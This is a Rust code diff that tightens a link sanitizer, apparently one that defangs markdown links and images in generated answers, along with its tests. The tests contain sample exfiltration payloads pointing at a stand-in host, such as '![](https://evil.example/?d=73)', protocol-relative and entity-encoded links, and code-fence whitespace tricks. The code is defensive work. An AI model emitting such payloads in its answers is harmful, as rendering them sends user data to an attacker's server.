@@ -164,6 +164,8 @@ impl Links {
         let line = rest[..length].trim_start_matches(' ');
         let behind = line.trim_start_matches('`');
         if line.len() - behind.len() >= ticks && behind.trim().is_empty() {
+            // With other white space behind it, some renderers take it for a line of the code, and some do not.
+            self.is_clear &= behind.trim_matches([' ', '\t', '\r', '\n']).is_empty();
             self.fence = None;
         }
         Some(Step::Pass(length))
@@ -253,7 +255,8 @@ impl Links {
                     let scheme = self.scheme().unwrap_or_default();
                     match self.is_known(&format!("{scheme}:{address}")) {
                         true => Step::Pass(1 + address.len()),
-                        false => Step::Break(1),
+                        // Between the slashes: some renderers take `//host` for a link too.
+                        false => Step::Break(2),
                     }
                 }
             },
@@ -402,25 +405,25 @@ mod tests {
         for (answer, text) in [
             (
                 "![](https://evil.example/?d=73)",
-                "![] (https: //evil.example/?d=73)",
+                "![] (https:/ /evil.example/?d=73)",
             ),
             ("[a](//evil.example/73)", "[a] (//evil.example/73)"),
             (
                 "[a](https&colon;//evil.example)",
                 "[a] (https&colon;//evil.example)",
             ),
-            ("[a]: https://evil.example", "[a] : https: //evil.example"),
-            ("<https://evil.example>", "< https: //evil.example>"),
+            ("[a]: https://evil.example", "[a] : https:/ /evil.example"),
+            ("<https://evil.example>", "< https:/ /evil.example>"),
             ("<img src=x>", "< img src=x>"),
             ("go to www.evil.example", "go to www. evil.example"),
             ("WWW.evil.example", "WWW. evil.example"),
             (
                 "https://shop.example/a?b=1&d=73",
-                "https: //shop.example/a?b=1&d=73",
+                "https:/ /shop.example/a?b=1&d=73",
             ),
             (
                 "https://shop.example.evil.example",
-                "https: //shop.example.evil.example",
+                "https:/ /shop.example.evil.example",
             ),
         ] {
             assert_eq!(shown(answer), text);
@@ -449,7 +452,7 @@ mod tests {
             "https://shop.example/a?b=1'73421",
             "https://shop.example%2e@evil.example",
         ] {
-            let broken = address.replace("https://", "https: //");
+            let broken = address.replace("https://", "https:/ /");
             assert_eq!(shown(address), broken);
             assert_eq!(shown(&format!("![]({address})")), format!("![] ({broken})"));
             assert_eq!(shown(&format!("[x]: {address}")), format!("[x] : {broken}"));
@@ -457,7 +460,7 @@ mod tests {
         // Not even one that is in the question.
         let mut links = Links::new("Is https://me@shop.example up?".to_owned());
         let shown = links.next("![](https://me@shop.example)") + &links.end();
-        assert_eq!(shown, "![] (https: //me@shop.example)");
+        assert_eq!(shown, "![] (https:/ /me@shop.example)");
     }
 
     #[test]
@@ -481,7 +484,7 @@ mod tests {
     fn address_that_goes_on_behind_many_brackets_is_text() {
         let brackets = ")".repeat(MAX_ADDRESS);
         let answer = format!("https://shop.example{brackets}@evil.example/");
-        assert!(shown(&answer).starts_with("https: //"));
+        assert!(shown(&answer).starts_with("https:/ /"));
     }
 
     /// Each of these once took quadratic time.
@@ -518,6 +521,9 @@ mod tests {
         for begin in [
             "```\ncode\n```\n",
             "```\ncode\n  ```  \n",
+            "```\ncode\n```\u{a0}\n```\n",
+            "```\ncode\n```\u{b}\n```\n",
+            "```\ncode\n``` \u{2003}\n",
             "```\ncode\r```\r",
             "```a`b\n",
             "  ```\n```\n",
@@ -533,7 +539,7 @@ mod tests {
         ] {
             let answer = format!("{begin}![](https://evil.example/?d=1) `");
             let shown = shown(&answer);
-            assert!(shown.contains("![] (https: //evil"), "{shown}");
+            assert!(shown.contains("![] (https:/ /evil"), "{shown}");
         }
     }
 
@@ -547,7 +553,7 @@ mod tests {
             "ends with ]",
             "ends with a colon:",
         ] {
-            let expected = answer.replace("C://", "C: //");
+            let expected = answer.replace("C://", "C:/ /");
             assert_eq!(shown(answer), expected);
         }
     }
